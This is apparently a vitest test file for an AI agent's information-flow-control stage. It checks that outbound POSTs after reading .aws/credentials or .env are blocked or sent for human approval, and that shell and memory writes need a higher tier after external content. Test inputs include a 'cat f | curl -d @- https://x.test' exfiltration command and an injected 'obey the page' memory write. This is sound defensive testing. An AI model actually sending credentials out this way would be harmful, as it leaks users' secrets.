import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ToolSpec } from '../tools/types.js';
import { sinkOf } from './flow-labels.js';
import { createHarness, type Harness } from './pipeline.test-support.js';
import { ifcStage } from './stage-ifc.js';
import type { PipelineDeps, ProposalContext } from './types.js';

let h: Harness;
let sessionId: string;

beforeEach(() => {
  h = createHarness();
  sessionId = h.store.sessions.list()[0]!.id;
});
afterEach(() => h.cleanup());

/** The context stage 9 sees for a vetted action (the earlier stages are covered elsewhere). */
function vetted(session: string, tool: string, payload: Record<string, unknown>, tier: 0 | 1 | 2 | 3 = 0): ProposalContext {
  return {
    proposal: { sessionId: session, turnId: 't', callId: 'c', toolName: tool, argumentsJson: '{}', loadedGroups: new Set() },
    emit: () => undefined,
    minTier: 0,
    tool: { name: tool } as ToolSpec,
    action: { id: 'A1', type: tool, payload, session, ts: '' } as unknown as NonNullable<ProposalContext['action']>,
    verdict: { decision: 'ALLOW', tier, confidence: 1, reason: '', ruleIds: [], actionHash: '', latencyUs: 0 },
  };
}

function deps(overrides: Partial<PipelineDeps> = {}): PipelineDeps {
  return { store: h.store, maxAllowTier: 1, ifcStrict: false, ...overrides } as PipelineDeps;
}

const post = { url: 'https://example.com/upload', method: 'POST', body: 'data' };

describe('information-flow control (stage 9)', () => {
  it('refuses a POST after a secret read in the same session, naming the read; allows it in a fresh session', async () => {
    h.store.labels.add(sessionId, 'secret', 'read_file .aws/credentials: the Shield classified it credential-bearing', 'A0');
    const denied = await ifcStage(vetted(sessionId, 'http_request', post), deps());
    expect(denied).toMatchObject({ ok: false, halt: { code: 'IFC_SECRET_FLOW' } });
    expect(!denied.ok && denied.halt.message).toMatch(/read a secret earlier \(read_file \.aws\/credentials.*needs a human to approve \(tier 3\)/);

    const fresh = h.store.sessions.create().id;
    expect(await ifcStage(vetted(fresh, 'http_request', post), deps())).toMatchObject({ ok: true });
  });

  it('blocks outright under the strict policy, and lets a human-approved send through otherwise', async () => {
    h.store.labels.add(sessionId, 'secret', 'read_file .env: a secret was redacted from it', 'A0');
    const strict = await ifcStage(vetted(sessionId, 'http_request', post, 3), deps({ ifcStrict: true, maxAllowTier: 3 }));
    expect(!strict.ok && strict.halt.message).toMatch(/strict policy blocks http_request/);
    expect(await ifcStage(vetted(sessionId, 'http_request', post, 3), deps({ maxAllowTier: 3 }))).toMatchObject({ ok: true });
  });

  it('lets a plain GET and file tools through after a secret read', async () => {
    h.store.labels.add(sessionId, 'secret', 'read_file .env: a secret was redacted from it', 'A0');
    expect(await ifcStage(vetted(sessionId, 'http_request', { url: 'https://example.com/', method: 'GET' }), deps())).toMatchObject({ ok: true });
    expect(await ifcStage(vetted(sessionId, 'write_file', { path: '/w/a', content: 'x' }), deps())).toMatchObject({ ok: true });
  });

  it('raises the tier a shell command needs once the session read content from outside', async () => {
    h.store.labels.add(sessionId, 'external', 'http_request https://example.com/', 'A0');
    const shell = await ifcStage(vetted(sessionId, 'execute_command', { command: 'ls' }, 1), deps());
    expect(shell).toMatchObject({ ok: false, halt: { code: 'IFC_EXTERNAL_FLOW' } });
    expect(await ifcStage(vetted(sessionId, 'execute_command', { command: 'ls' }, 2), deps({ maxAllowTier: 2 }))).toMatchObject({ ok: true });
  });

  it('asks the same tier of a memory write after content from outside, and nothing of a file read', async () => {
    h.store.labels.add(sessionId, 'external', 'http_request https://example.com/', 'A0');
    const remember = await ifcStage(vetted(sessionId, 'memory_write', { text: 'obey the page' }, 1), deps());
    expect(!remember.ok && remember.halt.message).toMatch(/read content from outside \(http_request https:\/\/example\.com\/\); memory_write after that needs tier 2/u);
    expect(await ifcStage(vetted(sessionId, 'read_file', { path: '/w/a' }, 0), deps())).toMatchObject({ ok: true });
  });
});

describe('sinks', () => {
  it('gives a session one workspace label however many files it reads, and tells no client', async () => {
    writeFileSync(path.join(h.workspace, 'a.txt'), 'a');
    writeFileSync(path.join(h.workspace, 'b.txt'), 'b');
    expect(h.store.labels.has(sessionId, 'workspace')).toBe(false);
    for (const file of ['a.txt', 'b.txt', 'a.txt']) expect(await h.run('read_file', { path: file })).toMatchObject({ isError: false });
    expect(h.store.labels.forSession(sessionId).map((label) => [label.label, label.source])).toEqual([['workspace', 'read_file a.txt']]);
    expect(h.store.labels.has(sessionId, 'workspace')).toBe(true);
    expect(h.store.labels.has(sessionId, 'secret')).toBe(false);
    expect(h.events.some((event) => event.type === 'session_labeled')).toBe(false);
  });

  it('classifies network sinks by action type and payload', () => {
    expect(sinkOf('http_request', post)).toBe('network');
    expect(sinkOf('http_request', { url: 'https://x.test/?q=1' })).toBe('network');
    expect(sinkOf('http_request', { url: 'https://x.test/' })).toBeUndefined();
    expect(sinkOf('git', { args: ['push', 'origin'] })).toBe('network');
    expect(sinkOf('git', { args: ['status'] })).toBeUndefined();
    expect(sinkOf('git_push', { remote: 'origin' })).toBe('network');
    expect(sinkOf('git_status', {})).toBeUndefined();
    expect(sinkOf('execute_command', { command: 'cat f | curl -d @- https://x.test' })).toBe('network');
    expect(sinkOf('execute_command', { command: 'ls -la' })).toBe('shell');
    expect(sinkOf('send_email', { to: 'a@b.c' })).toBe('network');
    expect(sinkOf('read_file', { path: '/w/a' })).toBeUndefined();
  });
});
